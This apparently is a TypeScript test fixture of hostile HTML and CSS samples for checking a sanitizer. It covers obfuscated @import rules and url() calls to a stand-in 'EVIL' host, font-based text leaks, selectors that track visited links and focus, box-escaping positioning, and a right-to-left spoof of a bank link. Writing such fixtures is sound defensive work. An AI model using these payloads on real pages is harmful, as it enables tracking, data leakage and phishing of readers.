/** Styles that load resources, leave their box, or spy on the reader. See `hostile-html.fixture.ts`. */
const LOADING = (
  'background background-image border-image border-image-source list-style list-style-image content cursor mask mask-image mask-border -webkit-mask-box-image ' +
  'filter backdrop-filter clip-path shape-outside offset-path quotes marker-start fill stroke -webkit-box-reflect symbols will-change src behavior -moz-binding ' +
  'background-position-x text-decoration font font-family unicode-range --x'
).split(' ');

export const HOSTILE_STYLES: readonly (readonly [name: string, html: string])[] = [
  [
    'images in every property',
    `<style>${LOADING.map((name) => `.c,p{${name}:url(EVIL/${name})}p::before{${name}:url("EVIL/b-${name}") x}`).join('')}</style><p class=c style="${LOADING.map((name) => `${name}:url('EVIL/s-${name}') 1`).join(';')}">Readable`,
  ],
  [
    'images in lists of images',
    '<style>p{background-image:linear-gradient(red,red),url(EVIL/1);background:image-set("EVIL/2" 1x,url(EVIL/3) 2x);background:-webkit-cross-fade(url(EVIL/4),url(EVIL/5),50%);mask:paint(x,url(EVIL/6)),src("EVIL/7");background:image(ltr "EVIL/8",red);background:if(media(print):url(EVIL/9);else:url(EVIL/10));background:light-dark(url(EVIL/11),url(EVIL/12));background:random-item(x,url(EVIL/13));background:attr(title type(<url>));background:attr(title url,url(EVIL/14));background:env(x,url(EVIL/15));background:first-valid(url(EVIL/16));background:url(EVIL/17) type(x) integrity("x") crossorigin(anonymous);background:-moz-image-rect(url(EVIL/18),0,0,0,0);background:toggle(url(EVIL/19));background:param(x,url(EVIL/20))}</style><p title="EVIL/21">Readable',
  ],
  [
    'at-rules that load resources, with unusual syntax',
    '<style>@import"EVIL/1";@import/**/url(EVIL/2);@IMPORT \'EVIL/3\';@im\\port "EVIL/4";@\\69 mport url("EVIL/5");<!--@import "EVIL/6";-->@import url(EVIL/7) layer(x) supports(color:red);@charset "x";@import "EVIL/8"\n;@import "//EVIL/9";\\@import "EVIL/10";</style><style media="all" type="text/css">;@import "EVIL/11"</style><style>@import "EVIL/12</style><p>Readable',
  ],
  [
    'fonts that reveal the text',
    '<style>@font-face{font-family:x;src:url(EVIL/1);unicode-range:U+41}@font-face{font-family:y;src:local("x"),url("EVIL/2")format("woff2")tech(color-svg)}@font-feature-values x{@styleset{a:1}}@font-palette-values --x{font-family:x}@counter-style c{system:cyclic;symbols:url(EVIL/3);prefix:url(EVIL/4)}p{font-family:x,y;list-style:c}</style><p>Readable',
  ],
  [
    'recent at-rules',
    '<style>@layer a,b;@layer a{p{background:url(EVIL/1)}}@container x style(--y:1){p{background:url(EVIL/2)}}@scope(body)to(i){p{background:url(EVIL/3)}}@position-try --x{inset:0}@function --f(){result:url(EVIL/4)}@custom-media --x(width>0);@custom-selector :--p p;@property --q{syntax:"<url>";inherits:true;initial-value:url(EVIL/5)}@starting-style{p{background:url(EVIL/6)}}@color-profile --x{src:url(EVIL/7)}@page :first{background:url(EVIL/8);@top-left{content:url(EVIL/9)}}@view-transition{navigation:auto}@-ms-viewport{width:1px}@media print{@page{size:1px}}@when media(print){p{background:url(EVIL/10)}}p{&:hover{background:url(EVIL/11)}@media all{background:url(EVIL/12)}.x &{background:url(EVIL/13)}}</style><p>Readable',
  ],
  [
    'escapes for every letter',
    '<style>p{\\62 ackground:\\55 \\52\\4c(EVIL/1);b\\61ckground\\3a url(EVIL/2);background:\\75\\72\\6c\\28 EVIL/3\\29;background:ur\\l(EVIL/4);background:u\\\nrl(EVIL/5);bac\\kground:url\\(EVIL/6\\);background:url(\\45 VIL/7);backgroun\\000064 :url(EVIL/8);background:\\000075rl(EVIL/9)}</style><p style="\\70osition:fixed;posit\\69on:\\66ixed;background:\\0075rl(EVIL/10);background:url(&quot;EVIL/11&quot;);background:url(&#39;EVIL/12\\&#39;">Readable',
  ],
  [
    'blocks that end elsewhere in browsers',
    '<style>p{x:"}";background:url(EVIL/1);}p{y:\'\\\';background:url(EVIL/2)}b{z:url(}p{background:url(EVIL/3)})}i{a:(};background:url(EVIL/4))}u{b:[}p{background:url(EVIL/5)}]}s{c:{};background:url(EVIL/6)}{}p{background:url(EVIL/7)}}}}p{background:url(EVIL/8)}@media{p{background:url(EVIL/9)}@x;p{color:red}</style><style>p{background:url("EVIL/10</style><style>");color:red}/*</style><style>*/p{background:url(EVIL/11)</style><p>Readable',
  ],
  [
    'boxes that leave their position',
    '<style>*{position:fixed!important;inset:0}p{position:\\66 ixed;position:-webkit-sticky;position:absolute;position:var(--x,fixed);--x:fixed;position:running(x);position:attr(title);POSITION:FIXED;position:if(else:fixed);top-layer:x;position-anchor:--a;float:footnote;overlay:auto;z-index:2147483647}</style><p title=fixed style="position:fixed;position:/**/absolute;top:-9999px;margin:-9999px;transform:scale(9999)translate(-50%,-50%);all:unset">Readable</p><p style="position:var(--x)">x',
  ],
  [
    'selectors that spy on the reader',
    '<style>a:visited{background:url(EVIL/1)}:focus-within{background:url(EVIL/2)}:target{background:url(EVIL/3)}::selection{background:url(EVIL/4)}p:active{background:url(EVIL/5)}::-webkit-scrollbar:horizontal{background:url(EVIL/6)}:fullscreen{background:url(EVIL/7)}html:lang(en){background:url(EVIL/8)}::target-text{background:url(EVIL/9)}::spelling-error{background:url(EVIL/10)}p::first-line{background:url(EVIL/11)}@media(prefers-reduced-motion){p{background:url(EVIL/12)}}@media(resolution:1dppx){p{background:url(EVIL/13)}}@media(hover:none){p{background:url(EVIL/14)}}@supports(display:grid){p{background:url(EVIL/15)}}@supports not(x:y){p{background:url(EVIL/16)}}</style><a href="https://x.example">Readable</a>',
  ],
  [
    'presentational attributes that load resources',
    '<body background="EVIL/1" style="background:url(EVIL/2)"><table background=EVIL/3 style="list-style:url(EVIL/4)"><thead background=EVIL/5><tr><th background=" EVIL/6 " bgcolor="url(EVIL/7)" width="expression(1)" height="&{location=1}">Readable</table><font color="url(EVIL/8)" face="EVIL/9" size=x onclick=1>x</font><hr color=expression(1) style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'EVIL/10\')"><marquee behavior=alternate onstart=1>x</marquee>',
  ],
  [
    'a deeply nested style sheet',
    `<style>${'@media all{'.repeat(50)}p{background:url(EVIL/1)}${'}'.repeat(50)}p{background:url(EVIL/2)}${'a{'.repeat(50)}background:url(EVIL/3)</style><style>${'('.repeat(5_000)}${'['.repeat(5_000)}{p{background:url(EVIL/4)}}</style><p>Readable`,
  ],
  [
    'text written from its end',
    '<style>a{unicode-bidi:bidi-override;direction:rtl}b{--x:isolate-override;unicode-bidi:var(--x)}i::before{content:"\\202e"}u::before{content:"bank.com"}</style><a href="https://evil.example">moc.knab</a><bdo dir=rtl>&#x202e;moc.knab</bdo><p>Readable',
  ],
];
